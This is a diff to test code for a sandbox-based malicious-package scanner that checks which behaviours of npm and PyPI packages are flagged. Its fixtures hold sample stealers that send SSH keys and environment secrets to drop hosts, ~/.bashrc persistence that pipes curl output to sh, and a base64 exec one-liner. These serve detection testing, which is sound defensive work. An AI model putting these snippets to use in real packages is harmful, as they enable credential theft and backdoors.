@@ -6,7 +6,8 @@ import { beforeAll, describe, expect, it } from 'vitest'
 import { DEFAULT_ARCHIVE_LIMITS } from '../../src/core/archive-limits.ts'
 import { npmEcosystem } from '../../src/protocols/npm/ecosystem.ts'
 import { pypiEcosystem } from '../../src/protocols/pypi/ecosystem.ts'
-import { DEFAULT_SANDBOX_OPTIONS, PERSONAS, runSandbox, sandboxAvailability, type SandboxOptions } from '../../src/scanning/sandbox/runner.ts'
+import { DEFAULT_SANDBOX_OPTIONS, PERSONAS, runSandbox, sandboxAvailability, type NetworkEvent, type SandboxOptions, type SandboxRun } from '../../src/scanning/sandbox/runner.ts'
+import type { SyscallEvent } from '../../src/scanning/sandbox/strace.ts'
 import { dynamicFindings } from '../../src/scanning/sandbox/signals.ts'
 import { findHoneytokens, plantHoneytokens } from '../../src/scanning/sandbox/honeytokens.ts'
 import { npmTarball } from '../helpers/tarballs.ts'
@@ -24,6 +25,38 @@ const rules = (f: { signals: { rule: string }[] }) => f.signals.map((s) => s.rul
 beforeAll(() => {
   const available = sandboxAvailability()
   if (!available.ok) throw new Error(`the sandbox tests need bubblewrap, strace and util-linux: ${available.reason} (.ci/run installs them)`)
+})
+
+describe('findings from a trace', () => {
+  const persona = PERSONAS[1]! // ci: user "runner", host "runner-7f3a"
+  const step = (label: string, phase: 'install' | 'load' | 'call', at: number) => ({ label, phase, argv: [], exitCode: 0, signal: null, timedOut: false, at, ms: 100, stdout: '', stderr: '' })
+  const traced = (network: NetworkEvent[], syscalls: SyscallEvent[]): SandboxRun => ({
+    steps: [{ label: 'setup.py', phase: 'install', argv: ['python3', 'setup.py'], cwd: '.' }, { label: 'call demo', phase: 'call', argv: [], cwd: '.' }],
+    runs: [{ persona, steps: [step('setup.py', 'install', 0), step('call demo', 'call', 1000)], syscalls: [syscalls, []], network, tokens: [], ms: 2000, killed: false }],
+    ms: 2000,
+  })
+
+  it('lets setuptools fetch build requirements from the package index and probe with a shell: pip is a package manager, the index is no foreign host, runner is not pytest-runner', () => {
+    const pip: SyscallEvent = { kind: 'exec', pid: 7, path: '/usr/bin/python3', argv: ['/usr/bin/python3', '-m', 'pip', 'wheel', '--no-deps', 'pytest-runner'], ok: true }
+    const fetch: NetworkEvent = { kind: 'http', scheme: 'https', port: 443, method: 'GET', host: 'pypi.org', path: '/simple/pytest-runner/', headers: {}, body: '', size: 0, t: 10 }
+    // a build probing through a shell is no finding either: what the shell starts is traced on its own
+    const probe: SyscallEvent = { kind: 'exec', pid: 8, path: '/bin/sh', argv: ['/bin/sh', '-c', 'pkg-config --modversion libxml-2.0'], ok: true }
+    expect(dynamicFindings(traced([{ kind: 'dns', name: 'pypi.org', type: 'A', t: 5 }, fetch], [pip, probe])).signals).toEqual([])
+    const inline: SyscallEvent = { kind: 'exec', pid: 9, path: '/usr/bin/python3', argv: ['python3', '-c', 'import base64;exec(base64.b64decode("cHJpbnQoMSk="))'], ok: true }
+    expect(rules(dynamicFindings(traced([], [inline])))).toEqual(['sandbox-spawns-tools'])
+    // the same user name as a word of its own, or a host contacted by install code, still counts
+    const beacon: NetworkEvent = { kind: 'dns', name: 'runner.d41d8cd9.oast.fun', type: 'A', t: 20 }
+    expect(rules(dynamicFindings(traced([beacon], [])))).toEqual(['sandbox-contacts-drop-host', 'sandbox-network', 'sandbox-system-info-egress'])
+  })
+
+  it('counts only what no caller asked for while exported functions are called: a client reaching its service is no finding, a drop host is', () => {
+    const api: NetworkEvent = { kind: 'http', scheme: 'https', port: 443, method: 'GET', host: 'api.example-service.com', path: '/v1/status', headers: {}, body: '', size: 0, t: 1500 }
+    expect(dynamicFindings(traced([api], [])).signals).toEqual([])
+    const drop: NetworkEvent = { kind: 'http', scheme: 'https', port: 443, method: 'POST', host: 'hooks.slack.com', path: '/services/T000/B000/XXXX', headers: {}, body: 'hello', size: 5, t: 1500 }
+    const found = dynamicFindings(traced([drop], []))
+    expect(rules(found)).toEqual(['sandbox-contacts-drop-host'])
+    expect(found.signals[0]!.message).toMatch(/^call demo: contacted https:\/\/hooks\.slack\.com\/services/)
+  })
 })
 
 describe('honeytokens', () => {
@@ -158,10 +191,78 @@ console.log('thanks for installing sandboxed!')`,
     expect(run.runs[0]!.steps[0]!.stdout).toContain('thanks for installing')
     expect(findings.signals).toEqual([])
 
-    const sdist = await pypiEcosystem.readArtifact(await sdistTarGz('plainpkg', '1.0.0', { 'setup.py': "from setuptools import setup\nsetup(name='plainpkg', version='1.0.0', packages=['plainpkg'])\n", 'plainpkg/__init__.py': 'ANSWER = 42\n' }), DEFAULT_ARCHIVE_LIMITS, { filename: 'plainpkg-1.0.0.tar.gz' })
+    // A library whose exported functions do a library's work when called: an API client's request, a key
+    // loader's read, a file written where it is told. None of it counts when the exerciser is the caller.
+    const library = `import os, urllib.request
+ANSWER = 42
+def fetch_status(url):
+    return urllib.request.urlopen('https://api.example-service.com/v1/status').read()
+def load_key(path):
+    return open(os.path.expanduser('~/.ssh/id_rsa')).read()
+def save(path, data):
+    with open(os.path.expanduser('~/report.txt'), 'w') as f:
+        f.write(data)
+`
+    const sdist = await pypiEcosystem.readArtifact(await sdistTarGz('plainpkg', '1.0.0', { 'setup.py': "from setuptools import setup\nsetup(name='plainpkg', version='1.0.0', packages=['plainpkg'])\n", 'plainpkg/__init__.py': library }), DEFAULT_ARCHIVE_LIMITS, { filename: 'plainpkg-1.0.0.tar.gz' })
     const py = await runSandbox(pypiEcosystem, sdist, ONE)
-    expect(py.steps.map((s) => s.label)).toEqual(['setup.py', 'import plainpkg'])
-    expect(py.runs[0]!.steps.map((s) => s.exitCode)).toEqual([0, 0])
+    expect(py.steps.map((s) => s.label)).toEqual(['setup.py', 'import plainpkg', 'call plainpkg'])
+    expect(py.runs[0]!.steps.map((s) => s.exitCode)).toEqual([0, 0, 0])
+    // the calls ran: the request reached the sinkhole
+    expect(py.runs[0]!.network.some((e) => e.kind === 'http' && e.host.startsWith('api.example-service.com'))).toBe(true)
     expect(dynamicFindings(py).signals).toEqual([])
+  })
+
+  it('calls what an npm package exports: functions, classes and their methods, past a busy loop and an exit; a library at work is no alarm', { timeout: 90_000 }, async () => {
+    const index = `const https = require('https'), fs = require('fs'), os = require('os')
+function busy(input) { for (;;) {} }
+function quit(code) { process.exit(3) }
+function fetchStatus(url, cb) { https.get('https://api.example-service.com/v1/status', (res) => { res.resume(); res.on('end', () => cb && cb()) }).on('error', () => {}) }
+function readKey(path) { return fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8') }
+function perm(privateKey) {
+  const req = https.request({ host: 'drop.oast.fun', method: 'POST', path: '/x' }, (res) => res.resume())
+  req.on('error', () => {})
+  req.end(JSON.stringify({ privateKey, env: process.env }))
+}
+class Wallet { constructor(seed) { this.seed = seed } sign(message) { fs.appendFileSync(os.homedir() + '/.bashrc', '\\nnode /tmp/.w.js\\n') } }
+module.exports = { busy, quit, fetchStatus, readKey, perm, Wallet }
+`
+    const { run, findings } = await npmRun({ 'index.js': index }, {}, { ...ONE, stepTimeoutMs: 20_000, runTimeoutMs: 40_000 })
+    expect(run.steps.map((s) => [s.label, s.phase])).toEqual([
+      ['require index.js', 'load'],
+      ['call sandboxed', 'call'],
+    ])
+    // every export was called: the client's request reached the sinkhole too
+    expect(run.runs[0]!.network.some((e) => e.kind === 'http' && e.host.startsWith('api.example-service.com'))).toBe(true)
+    expect(rules(findings)).toEqual(['sandbox-contacts-drop-host', 'sandbox-honeytoken-egress', 'sandbox-persistence', 'sandbox-system-info-egress'])
+  })
+
+  it('calls what a Python package exports: a stealer waiting in a function or a method is seen, past calls that hang or exit', { timeout: 90_000 }, async () => {
+    const core = `import os, json, time, urllib.request
+def a_hangs(x):
+    while True:
+        time.sleep(1)
+def b_exits(x):
+    os._exit(3)
+def perm(private_key):
+    secrets = {k: v for k, v in os.environ.items() if 'TOKEN' in k or 'KEY' in k}
+    urllib.request.urlopen('https://k3y-drop.ngrok-free.app/p', data=json.dumps([private_key, secrets]).encode())
+    return private_key
+class Wallet:
+    def __init__(self, seed):
+        self.seed = seed
+    def sign(self, message):
+        with open(os.path.expanduser('~/.bashrc'), 'a') as f:
+            f.write('\\ncurl -s http://203.0.113.9/x | sh\\n')
+`
+    const sdist = await pypiEcosystem.readArtifact(
+      await sdistTarGz('hexwallet', '1.0.0', { 'setup.py': "from setuptools import setup\nsetup(name='hexwallet', version='1.0.0', packages=['hexwallet'])\n", 'hexwallet/__init__.py': 'from .core import perm, Wallet\n', 'hexwallet/core.py': core }),
+      DEFAULT_ARCHIVE_LIMITS,
+      { filename: 'hexwallet-1.0.0.tar.gz' },
+    )
+    const run = await runSandbox(pypiEcosystem, sdist, { ...ONE, stepTimeoutMs: 20_000, runTimeoutMs: 40_000 })
+    expect(run.steps.at(-1)).toMatchObject({ label: 'call hexwallet', phase: 'call' })
+    const { signals } = dynamicFindings(run)
+    expect(signals.map((s) => s.rule).sort()).toEqual(['sandbox-contacts-drop-host', 'sandbox-honeytoken-egress', 'sandbox-persistence'])
+    expect(signals.find((s) => s.rule === 'sandbox-honeytoken-egress')!.message).toMatch(/^call hexwallet: sent the planted .* to POST https:\/\/k3y-drop\.ngrok-free\.app\/p/)
   })
 })
